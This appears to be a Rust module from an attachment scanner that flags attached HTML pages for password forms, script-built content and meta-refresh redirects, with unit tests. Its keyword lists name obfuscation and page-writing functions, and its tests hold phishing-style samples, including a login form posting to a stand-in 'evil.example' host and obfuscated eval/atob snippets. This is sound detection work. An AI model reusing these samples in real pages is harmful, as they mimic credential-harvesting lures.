//! What an attached web page does when it is opened: a login form, a page that builds itself, a way on to another page.
//!
//! Limits: its first 64 KiB; scripts are searched for words, not run; pages in archives and in `.mht` files are not read.

use std::borrow::Cow;

use model::features::{FileKind, PageFacts};

use super::active::is_svg;
use super::glimpse::Glimpse;
use crate::bytes;
use crate::html::Reducer;
use crate::url::Collector;

/// What a script decodes with. Libraries that reports carry do not call these, or in longer names.
const DECODES: &[&str] = &["atob", "unescape", "decodeuricomponent(escape", "_0x"];
/// What it does with the result.
const WRITES: &[&str] = &["document.write", "innerhtml", "outerhtml", "eval(", "location", "srcdoc", "createobjecturl"];
/// With fewer characters to read, a page that is written by a script is nothing but that.
const LITTLE_TEXT: usize = 200;

/// What a page does; nothing for other files, and for pictures.
pub(super) fn read(glimpse: &Glimpse<'_>, kind: FileKind, name: &str) -> PageFacts {
    if kind != FileKind::Html || is_svg(glimpse.first, name) {
        return PageFacts::default();
    }
    let html = text(glimpse.first);
    let mut reducer = Reducer::default();
    // Its links are not the message's.
    reducer.read(&html, &mut Collector::default());
    let (facts, _, _) = reducer.finish();
    let facts = facts.unwrap_or_default();
    let lower = html.to_ascii_lowercase();
    PageFacts {
        asks_password: facts.password_inputs > 0,
        builds_itself: facts.scripts > 0 && is_built(&lower, facts.visible_chars),
        leads_on: facts.refreshes > 0 && refreshes_to_another(&lower),
    }
}

/// UTF-16 by its mark; anything else as UTF-8: the tags are ASCII.
fn text(content: &[u8]) -> Cow<'_, str> {
    match content {
        [0xff, 0xfe, rest @ ..] => Cow::Owned(utf_16(rest, u16::from_le_bytes)),
        [0xfe, 0xff, rest @ ..] => Cow::Owned(utf_16(rest, u16::from_be_bytes)),
        _ => bytes::lossy(content),
    }
}

fn utf_16(content: &[u8], unit: fn([u8; 2]) -> u16) -> String {
    let units = content.chunks_exact(2).filter_map(|pair| pair.try_into().ok()).map(unit);
    String::from_utf16_lossy(&units.collect::<Vec<_>>())
}

fn is_built(lower: &str, visible: usize) -> bool {
    let decoded = DECODES.iter().any(|word| begins_a_word(lower, word));
    let written = WRITES.iter().any(|word| lower.contains(word));
    (decoded && written) || (visible < LITTLE_TEXT && lower.contains("document.write"))
}

fn begins_a_word(text: &str, word: &str) -> bool {
    let before = |at: usize| text.get(..at).and_then(|before| before.chars().next_back());
    text.match_indices(word).any(|(at, _)| !before(at).is_some_and(|c| c.is_alphanumeric() || c == '_'))
}

/// A page that only loads itself anew names no other.
fn refreshes_to_another(lower: &str) -> bool {
    let tags = lower.split('<').filter_map(|tag| tag.strip_prefix("meta"));
    let inside = |tag: &str| tag.split('>').next().is_some_and(|tag| tag.contains("refresh") && tag.contains("url"));
    tags.into_iter().any(inside)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn page(content: &[u8]) -> [bool; 3] {
        let facts = read(&Glimpse { first: content, last: &[] }, FileKind::Html, "a.htm");
        [facts.asks_password, facts.builds_itself, facts.leads_on]
    }

    #[test]
    fn a_login_form_is_seen_in_any_spelling_and_in_utf_16() {
        let form = "<form action='https://evil.example/p'><INPUT name=p TYPE=\"Password\">";
        assert_eq!(page(form.as_bytes()), [true, false, false]);
        let wide: Vec<u8> = [0xff, 0xfe].into_iter().chain(form.bytes().flat_map(|byte| [byte, 0])).collect();
        assert_eq!(page(&wide), [true, false, false]);
        assert_eq!(page(b"<form><input type=text name=password></form> your password"), [false; 3]);
    }

    #[test]
    fn a_page_that_builds_itself_is_told_from_a_report() {
        for script in
            ["document.write(unescape('%3c'))", "document.body.innerHTML=atob('PGI+')", "var _0x1a=1;eval(_0x1a)"]
        {
            let long = "Some words that a reader reads. ".repeat(20);
            assert_eq!(
                page(format!("<p>{long}</p><script>{script}</script>").as_bytes()),
                [false, true, false],
                "{script}"
            );
        }
        assert_eq!(page(b"<html><script>document.write(a+b)</script>"), [false, true, false]);
        let report = "<h1>Coverage</h1><p>91 %</p><script>table.innerHTML = rows; funescape(x); runescape=1</script>";
        assert_eq!(page(report.as_bytes()), [false; 3]);
    }

    #[test]
    fn a_refresh_counts_when_it_leads_elsewhere() {
        assert_eq!(page(b"<meta content='0;URL=https://x.example' http-equiv=Refresh>"), [false, false, true]);
        assert_eq!(page(b"<meta http-equiv=refresh content=30><p>url of the build"), [false; 3]);
    }
}
